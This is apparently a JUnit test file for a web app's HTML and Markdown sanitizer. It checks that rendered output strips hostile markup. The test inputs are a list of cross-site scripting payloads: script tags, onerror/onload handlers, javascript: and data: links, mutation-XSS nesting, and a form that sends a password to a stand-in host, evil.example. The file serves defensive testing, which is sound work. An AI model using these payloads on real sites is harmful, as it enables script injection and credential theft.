package net.niner.status.platform;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.regex.MatchResult;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class MarkupTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<img src=x onerror=alert(1)>",
                "<img src='javascript:alert(1)'>",
                "<img src='https://evil.example/pixel.gif'>",
                "<img src='//evil.example/pixel.gif'>",
                "<img src='\\\\evil.example/pixel.gif'>",
                "<img src='/\\evil.example/pixel.gif'>",
                "<a href='javascript:alert(1)'>x</a>",
                "<a href=' java\tscript:alert(1)'>x</a>",
                "<a href='&#106;avascript:alert(1)'>x</a>",
                "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
                "<a href='vbscript:x'>x</a>",
                "<svg onload=alert(1)><script>alert(1)</script></svg>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<iframe src='https://evil.example'></iframe>",
                "<object data='x.swf'></object><embed src=x>",
                "<form action='https://evil.example'><input name=password><button>go</button></form>",
                "<style>body{display:none}</style>",
                "<p style='position:fixed;inset:0'>x</p>",
                "<div id=content class=skip onclick=alert(1)>x</div>",
                "<link rel=stylesheet href=//evil.example/x.css>",
                "<meta http-equiv=refresh content='0;url=//evil.example'>",
                "<base href='//evil.example/'>",
                "<!--[if IE]><script>alert(1)</script><![endif]-->",
                "<p><b>unclosed <i onmouseover=alert(1)>x",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<textarea><script>alert(1)</script></textarea>",
                "<a href=\"x\" onclick=alert(1) style=x>x</a>"
            })
    void nothingHostileIsLeft(String html) {
        for (String rendered : new String[] {Markup.ofHtml(html), Markup.ofMarkdown(html)}) {
            String tags = Pattern.compile("<[^>]*>")
                    .matcher(rendered)
                    .results()
                    .map(MatchResult::group)
                    .collect(Collectors.joining());
            assertThat(tags)
                    .doesNotContain("script", "onerror", "onload", "onclick", "onmouseover", "style", "evil.example")
                    .doesNotContain(
                            "<iframe", "<form", "<input", "<svg", "<object", "<base", "<meta", "<link", "data:");
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "[x](javascript:alert(1))",
                "[x](JaVaScRiPt:alert(1))",
                "![x](https://evil.example/pixel.gif)",
                "![x](//evil.example/pixel.gif)",
                "[x]: javascript:alert(1)\n\n[x]",
                "<javascript:alert(1)>"
            })
    void hostileMarkdownIsOnlyText(String markdown) {
        assertThat(Markup.ofMarkdown(markdown)).doesNotContain("href=\"java", "evil.example/pixel.gif\"");
    }

    /** Browsers leave out tabs in addresses: what then begins with two slashes leads elsewhere. */
    @Test
    void whatCannotBeSeenInAnAddressLeadsNowhereElse() {
        assertThat(Markup.ofHtml("<img src='/\t/evil.example/pixel.gif'>")).doesNotContain("\t", "\"//");
        assertThat(Markup.ofHtml("<img src='/\n/evil.example/pixel.gif'>")).doesNotContain("\n", "\"//");
    }

    @Test
    void whatPeopleWriteStays() {
        assertThat(Markup.ofMarkdown("# One\n\nA *b* **c** [d](https://niner.net/) `e`\n\n![f](/media/1-0.png)"))
                .isEqualTo("<h2>One</h2>\n<p>A <em>b</em> <strong>c</strong> <a href=\"https://niner.net/\">d</a>"
                        + " <code>e</code></p>\n<p><img src=\"/media/1-0.png\" alt=\"f\" /></p>\n");
        assertThat(Markup.ofMarkdown("|a|b|\n|-|-|\n|1|2|")).contains("<table>", "<td>1</td>");
        assertThat(Markup.ofHtml("<p><img src='https://elsewhere.example/x.png' alt='x'>text</p>"))
                .isEqualTo("<p>text</p>");
        assertThat(Markup.ofHtml("<b>kept</b> &amp; &lt;shown&gt;")).isEqualTo("<b>kept</b> &amp; &lt;shown&gt;");
    }

    @Test
    void textIsWhatIsLeftWithoutTags() {
        assertThat(Markup.text("<p>One</p><p>two &amp; <b>three</b></p>")).isEqualTo("One two & three");
    }
}
